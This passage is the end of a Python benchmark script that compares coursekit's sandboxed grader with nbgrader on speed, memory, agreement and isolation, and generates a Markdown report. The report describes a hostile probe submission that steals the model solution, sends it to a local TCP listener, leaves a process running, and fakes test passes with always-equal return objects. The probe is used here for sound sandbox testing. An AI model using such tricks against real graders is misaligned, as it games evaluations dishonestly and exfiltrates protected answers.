    ap.add_argument("--jobs", type=int, default=0, help="coursekit's --jobs (default 0: one per core)")
    ap.add_argument("--raw", type=Path, help="also keep the measurements in this JSON file")
    ap.add_argument("--render", type=Path, metavar="RAW", help="only write the report again from a --raw file")
    args = ap.parse_args()
    if args.render:
        report = render(json.loads(args.render.read_text()))
        (HERE / "grade-exercises.md").write_text(report + "\n")
        print(report)
        return
    if not (PEERS / "nbgrader").exists():
        raise SystemExit(f"{PEERS / 'nbgrader'} is missing: run `make bench` (it installs benchmarks/peers.txt)")
    become_subreaper()
    dirty_start, commit_start = src_changes(), head()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))  # so that the temporary folder goes
    started = datetime.now(UTC)
    load_before = os.getloadavg()
    clock = time.perf_counter()

    def phase(what: str) -> None:
        print(f"[{time.perf_counter() - clock:6.0f} s] {what}", file=sys.stderr, flush=True)

    codes = make_variants(args.submissions)
    n = len(codes)
    with tempfile.TemporaryDirectory(prefix="coursekit-bench-grade-ex-") as tmp:
        root = Path(tmp)
        subs = root / "ours-submissions"
        subs.mkdir()
        for i, (_, code) in enumerate(codes):
            (subs / f"{learner_id(i)}.py").write_text(code, encoding="utf-8")
        template = make_nbgrader_template(root, codes)
        phase(f"{n} submissions written for both tools")
        ours, peer = [], []
        ours_out, peer_scores = {}, {}
        verdict_sets, score_sets = [], []
        for r in range(max(args.runs, args.nbgrader_runs)):
            if r < args.runs:
                res, ours_out = run_ours(root, subs, r, args.jobs)
                ours.append(res)
                verdict_sets.append({k: (o["status"], o["passed"]) for k, o in ours_out.items()})
                phase(f"run {r + 1}: coursekit {res['wall']:.1f} s")
            if r < args.nbgrader_runs:
                res, peer_scores = run_nbgrader(root, template, r)
                peer.append(res)
                score_sets.append(peer_scores)
                phase(f"run {r + 1}: nbgrader {res['wall']:.1f} s")
        probes = probe(root, template)
        phase("hostile submission graded by both")
        costs = startup_costs(root)
        phase("start-up costs measured")
    finished = datetime.now(UTC)
    commit = head()
    src_moved = (
        commit != commit_start
        and subprocess.run(["git", "diff", "--quiet", commit_start, commit, "--", "src"], cwd=REPO).returncode != 0
    )
    dirty = sorted(set(dirty_start) | set(src_changes()))
    for res in ours + peer:
        del res["stdout"], res["stderr"]
    raw = {
        "args": {k: v for k, v in vars(args).items() if k not in ("raw", "render")},
        "n": n,
        "kinds": [k for k, _ in codes],
        "ours": ours,
        "peer": peer,
        "ours_out": ours_out,
        "peer_scores": peer_scores,
        "probes": probes,
        "costs": costs,
        "started": started.isoformat(),
        "finished": finished.isoformat(),
        "commit": commit,
        "commit_start": commit_start,
        "src_moved": src_moved,
        "dirty": dirty,
        "load_before": load_before,
        "machine": machine(),
        "python": f"{platform.python_implementation()} {platform.python_version()}",
        "bwrap": bwrap_version(),
        "cores": os.cpu_count(),
        "tests": len(test_cells()),
        "stable": {
            "coursekit": all(v == verdict_sets[0] for v in verdict_sets),
            "nbgrader": all(v == score_sets[0] for v in score_sets),
        },
    }
    if args.raw:
        args.raw.write_text(json.dumps(raw, indent=1))
    report = render(raw)
    (HERE / "grade-exercises.md").write_text(report + "\n")
    print(report)


def render(raw: dict) -> str:
    args = argparse.Namespace(**raw["args"])
    n, ours, peer, ours_out, peer_scores = raw["n"], raw["ours"], raw["peer"], raw["ours_out"], raw["peer_scores"]
    probes, costs, commit, dirty = raw["probes"], raw["costs"], raw["commit"], raw["dirty"]
    load_before = raw["load_before"]
    started, finished = datetime.fromisoformat(raw["started"]), datetime.fromisoformat(raw["finished"])
    codes = [(k, None) for k in raw["kinds"]]
    kinds = variants()
    total_tests = raw["tests"]
    rows: dict[str, dict] = {}
    disagree = []
    for i, (kind, _) in enumerate(codes):
        o, p = ours_out[learner_id(i)], peer_scores.get(learner_id(i))
        row = rows.setdefault(kind, {"n": 0, "ours": Counter(), "peer": Counter()})
        row["n"] += 1
        row["ours"][o["passed"]] += 1
        row["peer"][None if p is None else int(p)] += 1
        if p is None or int(p) != o["passed"]:
            disagree.append((learner_id(i), kind, o["passed"], p))
    ours_pass = {learner_id(i) for i in range(n) if ours_out[learner_id(i)]["status"] == "passed"}
    peer_pass = {s for s, v in peer_scores.items() if v == total_tests}

    def per(values: list[dict], key: str, scale: float = 1.0) -> list[float]:
        return [v[key] * scale for v in values]

    med = statistics.median
    ours_per, peer_per = per(ours, "wall", 1000 / n), per(peer, "wall", 1000 / n)
    ours_cpu, peer_cpu = per(ours, "cpu", 1000 / n), per(peer, "cpu", 1000 / n)
    has_machine = all("machine_cpu" in v for v in ours + peer)
    ours_mcpu, peer_mcpu = (
        (per(ours, "machine_cpu", 1000 / n), per(peer, "machine_cpu", 1000 / n)) if has_machine else ([0.0], [0.0])
    )
    ratio = med(peer_per) / med(ours_per)
    cpu_ratio = med(peer_cpu) / med(ours_cpu)
    met = ratio >= TARGET
    loads = [v["load"] for v in ours + peer]
    jobs = args.jobs or raw["cores"]
    names = Counter(ours[-1]["names"])
    minutes = (finished - started).total_seconds() / 60
    within = sorted(t for v in peer for t in v["per_notebook_ms"]) or [0.0]

    def counts(c: Counter) -> str:
        return ", ".join(
            f"{'none' if k is None else k}/{total_tests} ×{v}"
            for k, v in sorted(c.items(), key=lambda kv: -1 if kv[0] is None else kv[0])
        )

    lines = [
        "# Grading exercise submissions: coursekit against nbgrader",
        "",
        f"{n} submissions of the exercise `{EXERCISE}` ({total_tests} tests) graded by `coursekit grade exercise`",
        f"(bubblewrap sandbox with its default limits, `--jobs {args.jobs}`: {jobs} submissions at once) into a",
        "fresh SQLite gradebook, against nbgrader 0.9.6 (`nbgrader autograde`, run from `benchmarks/.venv`, one",
        "notebook at a time as it always does) on the same exercise written as an nbgrader notebook: the model",
        "solution's function bodies between `### BEGIN SOLUTION` and `### END SOLUTION`, a locked set-up cell,",
        "one autograded test cell (1 point) per test pytest runs from the exercise's test files, public and hidden,",
        "with the test function verbatim (a parametrized test: one cell per case), and `data/gmv.csv` in the assignment.",
        "Each submission differs from the others by a first-line comment, as a class's files do (coursekit grades",
        "identical files once; this benchmark measures grading, not that). The nbgrader notebook is generated at run time from the exercise's",
        "files, and each nbgrader submission is the released notebook with its solution cell replaced by the",
        "same code as the coursekit submission. Times are wall clock for the whole command (start-up, every",
        "submission, the gradebook), each run into a fresh gradebook (for nbgrader, a fresh course directory",
        "after `nbgrader generate_assignment`); runs alternate between the tools.",
        "",
        f"- Machine: {raw['machine']}; {raw['python']}; bubblewrap {raw['bwrap']}",
        f"- Date: {started.strftime('%Y-%m-%d %H:%M')} to {finished.strftime('%H:%M')} UTC ({minutes:.0f} min in all);"
        f" commit {raw.get('commit_start', commit)}"
        + (
            f" (HEAD moved to {commit} during the run, {'with' if raw.get('src_moved') else 'without'} changes to src/)"
            if raw.get("commit_start", commit) != commit
            else ""
        )
        + (f" (with uncommitted changes from other work in {', '.join(dirty)})" if dirty else ""),
        f"- Load average (1 min): {load_before[0]:.1f} before the first run; {min(loads):.1f} to {max(loads):.1f}"
        f" during the runs on {raw['cores']} cores (this counts the benchmark's own processes; other work shares",
        "  the machine)",
        f"- Runs: coursekit {len(ours)}, nbgrader {len(peer)}; median (min to max). (By default nbgrader runs once, to"
        " keep the benchmark near 15 minutes; `--nbgrader-runs` sets more.)",
        "",
        "| measure | coursekit (sandbox on) | nbgrader autograde | nbgrader ÷ coursekit |",
        "|---|---|---|---|",
        f"| total wall time, {n} submissions (s) | {spread(per(ours, 'wall'))} | {spread(per(peer, 'wall'))} |"
        f" {med(per(peer, 'wall')) / med(per(ours, 'wall')):.2f}× |",
        f"| **wall time per submission (ms)** | {spread(ours_per, '{:,.0f}')} | {spread(peer_per, '{:,.0f}')} |"
        f" **{ratio:.2f}×** |",
        f"| CPU time per submission, all processes (ms) | {spread(ours_cpu, '{:,.0f}')} |"
        f" {spread(peer_cpu, '{:,.0f}')} | {cpu_ratio:.2f}× |",
        *(
            [
                f"| CPU time per submission, whole machine (ms) | {spread(ours_mcpu, '{:,.0f}')} |"
                f" {spread(peer_mcpu, '{:,.0f}')} | {med(peer_mcpu) / med(ours_mcpu):.2f}× |"
            ]
            if has_machine
            else []
        ),
        f"| peak memory, whole process tree, sum of PSS (MiB) | {spread(per(ours, 'tree_pss_kb', 1 / 1024), '{:.0f}')} |"
        f" {spread(per(peer, 'tree_pss_kb', 1 / 1024), '{:.0f}')} | |",
        f"| peak memory, largest single process, ru_maxrss (MiB) | {spread(per(ours, 'maxrss_kb', 1 / 1024), '{:.0f}')} |"
        f" {spread(per(peer, 'maxrss_kb', 1 / 1024), '{:.0f}')} | |",
        f"| most processes in the tree at once | {max(per(ours, 'procs')):.0f} | {max(per(peer, 'procs')):.0f} | |",
        "",
        f"Within nbgrader's run{'s' if len(peer) > 1 else ''}, from the timestamps of its log, one notebook took"
        f" {within[len(within) // 2]:,.0f} ms (median), {within[len(within) // 10]:,.0f} to"
        f" {within[len(within) * 9 // 10]:,.0f} ms (10th to 90th percentile), {within[0]:,.0f} to {within[-1]:,.0f}"
        f" ms in all, over {len(within)} notebooks.",
        "",
        f"**Target, at least {TARGET:.0f}× faster per submission than nbgrader: {'met' if met else 'not met'}**"
        f" ({ratio:.2f}× on wall time per submission, with coursekit grading {jobs} at once and nbgrader one at a"
        f" time; {cpu_ratio:.2f}× on CPU time per submission by rusage"
        + (
            f" and {med(peer_mcpu) / med(ours_mcpu):.2f}× by the whole machine's busy time, which also counts the"
            " learner processes that rusage misses (see below)"
            if has_machine
            else ""
        )
        + "; CPU time does not depend on that).",
        "",
        "How memory is measured: *whole process tree* is the largest sum, at one instant, of the proportional",
        "set size (`Pss:` in `/proc/PID/smaps_rollup`; shared pages are split between the processes sharing",
        "them) of the command and all its descendants, sampled every 100 ms (the learner processes inside",
        "bubblewrap included); *largest single process* is `ru_maxrss` of `wait4()` on the command, the peak",
        "RSS of the biggest one process among it and every descendant it waited for. CPU time, *all processes*,",
        "is that rusage's user + system time of the command and every process it or its children waited for (the",
        "benchmark is a subreaper and reaps the sandbox's orphans too). It misses the learner processes: they end",
        "with their pid namespace, and the kernel reaps a dying namespace's processes itself (its first process",
        "ignores SIGCHLD while it dies), so their CPU time reaches no parent's rusage; BSD process accounting",
        "(`accton`) shows them at about 80 ms each (the interpreter's start, the agent, the learner's module, the",
        "calls). *Whole machine* is the busy time of every core during the run, from `/proc/stat`: it counts them,",
        "the kernel's own work for the command, and anything else the machine was doing: the truer CPU figure.",
        "",
        "## Do they agree?",
        "",
        f"Submissions with every test passing: coursekit {len(ours_pass)}, nbgrader {len(peer_pass)}; the same"
        f" submissions: {'yes' if ours_pass == peer_pass else 'no'}. Submissions where the number of tests passed"
        f" differs: {len(disagree)} of {n}"
        + (" (from the last run of each)." if len(ours) + len(peer) > 2 else ".")
        + "".join(
            f" {tool}'s {'verdicts' if tool == 'coursekit' else 'scores'} were the same in each of its"
            f" {len(runs)} runs."
            for tool, runs in (("coursekit", ours), ("nbgrader", peer))
            if len(runs) > 1 and raw.get("stable", {}).get(tool)
        ),
        "",
        "| code variant | submissions | coursekit: tests passed | nbgrader: points |",
        "|---|---|---|---|",
    ]
    for kind, (_, what, _) in kinds.items():
        row = rows.get(kind)
        if row:
            lines.append(f"| `{kind}`: {what} | {row['n']} | {counts(row['ours'])} | {counts(row['peer'])} |")
    lines.append("")
    if disagree:
        by_kind = Counter(k for _, k, _, _ in disagree)
        lines.append(f"Every disagreement, by variant: {', '.join(f'`{k}` ×{c}' for k, c in by_kind.items())}.")
        if set(by_kind) == {"raises-at-end"}:
            lines += [
                "They are all the submission whose functions are right but whose module ends with a top-level line",
                "that raises. coursekit imports the learner's module for each test, the import fails, so every test",
                "fails (as `pytest` on the learner's own machine would say). In the notebook the solution cell errors",
                "at its last line, but the functions it defined before that line stay in the kernel, so every test",
                'cell passes. Neither is a bug; the two tools define "the submission" differently (a module that',
                "must import, or whatever a cell left behind).",
            ]
        lines.append("")
    ck, nb = probes["coursekit"], probes["nbgrader"]
    yes = lambda b: "**yes**" if b else "no"  # noqa: E731
    lines += [
        "## Isolation",
        "",
        "| | coursekit `grade exercise` | nbgrader `autograde` |",
        "|---|---|---|",
        "| where the learner's code runs | its own process in a bubblewrap sandbox: own pid, network, IPC and UTS"
        " namespaces; a read-only view of the system with empty tmpfs over /home, /root, /run, /srv, /var/tmp, the"
        " course, the exercise and the submissions folder; a 64 MiB tmpfs scratch holding only its file and the"
        " data; switched to a fresh unprivileged uid with every capability dropped | a Jupyter kernel (ipykernel)"
        " started as the grading user, with that user's files, environment and network; no sandbox |",
        "| where the tests run and the verdict is made | a separate trusted pytest process that never imports the"
        " learner's code; calls go to the sandbox as JSON and only plain values come back (a subclass arrives as"
        " its base type); outcomes are recorded by pytest hooks in the trusted process | the test cells run in the"
        " same kernel, in the same namespace as the learner's code, which can shadow or patch whatever the tests"
        " use; a test cell passes when it shows no error |",
        "| limits | per learner process: 10 s CPU, 512 MiB address space, 32 processes, 64 open files, 16 MiB per"
        " file, 1 MiB of output (then killed); 10 s wall per call, 300 s for the whole run; 4 MiB per reply; all"
        " on in this benchmark | 30 s per cell (`Execute.timeout`); output is cut to 1,000 lines after it has been"
        " received (`LimitOutput`); no limit on memory, processes, files or CPU |",
        "| what is left afterwards | killing the sandbox's pid namespace ends everything the submission started |"
        " the kernel's process group is killed; a process in its own session survives |",
        "",
        "A hostile submission (`PROBE` in the script), graded once by each tool, not timed: it reads the model",
        "solution from the course, writes a file next to the benchmark's files, starts a process in its own",
        "session, sends what it found to a TCP listener on 127.0.0.1, and computes nothing: its functions return",
        "a float subclass that equals anything and a dict subclass that has every key.",
        "",
        "| what the hostile submission managed | coursekit | nbgrader |",
        "|---|---|---|",
        f"| score (tests passed) while computing nothing | {ck['score']} | {nb['score']} |",
        f"| read the model solution and sent it over the network | {yes(ck['network'])}"
        f"{': ' + ck['network'][0] if ck['network'] else ''} | {yes(nb['network'])}"
        f"{': ' + nb['network'][0] if nb['network'] else ''} |",
        f"| wrote a file outside its folder | {yes(ck['wrote'])} | {yes(nb['wrote'])} |",
        f"| a process it started was still running after the grading (then killed by the benchmark) |"
        f" {yes(ck['alive'])} | {yes(nb['alive'])} |",
        f"| sandbox reported | {ck['sandbox']} | {nb['sandbox']} |",
        "",
        "Sandbox check for the timed runs: every coursekit verdict says `sandbox: bwrap`, no fallback warning was",
        f"printed, and the sampler saw {names['bwrap']} `bwrap` processes under the grader in its last run"
        f" (processes seen, by name: {', '.join(f'{k} ×{v}' for k, v in names.most_common(6))}).",
        "",
    ]
    # where the time goes
    one = (costs["grade_solution"] + costs["grade_starter"]) / 2  # one submission graded on its own
    plugin = max(0.0, costs["plugin"] - costs["pytest"])
    heavy = bool(costs.get("plugin_loads_content", 1.0))  # the plugin module imports coursekit.content
    kernel = max(0.0, costs["kernel"] - costs["client"])
    need = med(peer_cpu) / TARGET
    lines += [
        "## Where the time goes",
        "",
        "CPU time of the start-up each tool pays for every submission, measured on its own after the timed runs",
        "(coursekit's rows in turns, 5 times each; nbgrader's 3 times; medians):",
        "",
        "| start-up | CPU (ms) |",
        "|---|---|",
        f"| coursekit: a Python interpreter (`python -I -c pass`) | {costs['python']:.0f} |",
        f"| coursekit: the trusted pytest process with one empty test, forked from the warm server as `grade()`"
        f" does |  {costs['forked']:.0f} |",
        f"| coursekit: the same, started cold (`python -m pytest`, what `grade()` falls back to without the"
        f" server) | {costs['session']:.0f} |",
        f"| of which importing pytest and its built-in plugins | {costs['pytest']:.0f} |",
        "| of which importing the grader plugin module"
        + (
            ", nearly all of it `coursekit.content` (pydantic models, YAML) |"
            if heavy
            else " (the sandbox and proxy modules) |"
        )
        + f" {plugin:.0f} |",
        f"| coursekit: bubblewrap and an interpreter inside it | {costs['bwrap']:.0f} |",
        f"| coursekit: the standard modules the agent imports in the sandbox (interpreter included) |"
        f" {costs['agent']:.0f} |",
        f"| coursekit: one whole submission graded on its own by `grade()` (model solution / starter) |"
        f" {costs['grade_solution']:,.0f} / {costs['grade_starter']:,.0f} |",
        f"| nbgrader: a Jupyter kernel started, one cell run, shut down (less importing jupyter_client) |"
        f" {kernel:.0f} |",
        "",
        f"coursekit spends {med(ours_cpu):,.0f} ms of CPU per submission in the timed runs and {one:,.0f} ms on one"
        f" submission graded on its own. Its trusted pytest process is forked from a server that imported pytest",
        f"and the grader plugin once, so a submission's pytest session costs about {costs['forked']:,.0f} ms before any",
        f"test runs, where a cold one costs {costs['session']:,.0f} ms; the rest is the sandbox, the agent's start in it"
        f" and the calls of {raw['tests']} small tests"
        + (
            f". The grader plugin still imports `coursekit.content.catalog` ({plugin:,.0f} ms, paid once by the"
            " server)."
            if heavy
            else "."
        ),
        f"The sandbox itself costs about {costs['bwrap']:.0f} ms. nbgrader spends {med(peer_cpu):,.0f} ms, of which"
        f" about {kernel:,.0f} ms is starting and stopping a kernel; the rest is nbconvert's preprocessors (run",
        "twice: sanitise, then autograde), reading and writing the notebook twice, and its SQLAlchemy gradebook.",
        f"Both are dominated by start-up, not by running {raw['tests']} small tests.",
        "",
    ]
    if met:
        lines += [
            f"The target is met: {ratio:.1f}× per submission on wall time, {cpu_ratio:.1f}× on CPU time"
            + (f", {med(peer_mcpu) / med(ours_mcpu):.1f}× on the whole machine's CPU time." if has_machine else "."),
            "",
        ]
    else:
        lines += [
            f"**Why the target is missed:** {TARGET:.0f}× needs at most {med(peer_per) / TARGET:,.0f} ms of wall time"
            f" per submission (or {need:,.0f} ms of CPU), and coursekit spends {med(ours_per):,.0f} ms"
            f" ({med(ours_cpu):,.0f} ms of CPU). What is left per submission is a pytest session"
            f" (about {costs['forked']:,.0f} ms), the sandbox and the agent's start in it (about"
            f" {costs['bwrap']:.0f} and {costs['agent']:.0f} ms), and the tests' calls. The sandbox's limits stay on.",
            "",
            "**What would close it:** one trusted pytest session for many submissions (the tests collected once,"
            " each submission still in its own sandbox), or more cores: coursekit grades one submission per core,"
            " nbgrader one at a time.",
            "",
        ]
    lines += [
        "Caveats: the machine is shared and its load varies, so the wall times move between runs more than the",
        "CPU times do. nbgrader's tests need `pytest.approx` and `pytest.raises`, and pytest is not installed in",
        "its environment, so the notebook's locked set-up cell defines a 25-line stand-in for the two with",
        "pytest's semantics (default relative tolerance 1e-6; `abs=` alone means an absolute tolerance).",
        "",
        f"Reproduce: `.venv/bin/python benchmarks/grade_exercises.py --submissions {n} --runs {args.runs}"
        f" --nbgrader-runs {args.nbgrader_runs}` (needs `benchmarks/.venv` from `make bench`, and bubblewrap).",
    ]
    return "\n".join(lines)


def head() -> str:
    return subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"], cwd=REPO, capture_output=True, text=True
    ).stdout.strip()


def src_changes() -> list[str]:
    """Files under src/ that differ from the commit (coursekit is installed editable, so they count)."""
    out = subprocess.run(["git", "status", "--porcelain", "--", "src"], cwd=REPO, capture_output=True, text=True)
    return [line[3:] for line in out.stdout.splitlines()]


def bwrap_version() -> str:
    try:
        return subprocess.run(["bwrap", "--version"], capture_output=True, text=True).stdout.split()[-1]
    except (OSError, IndexError):
        return "?"


if __name__ == "__main__":
    main()
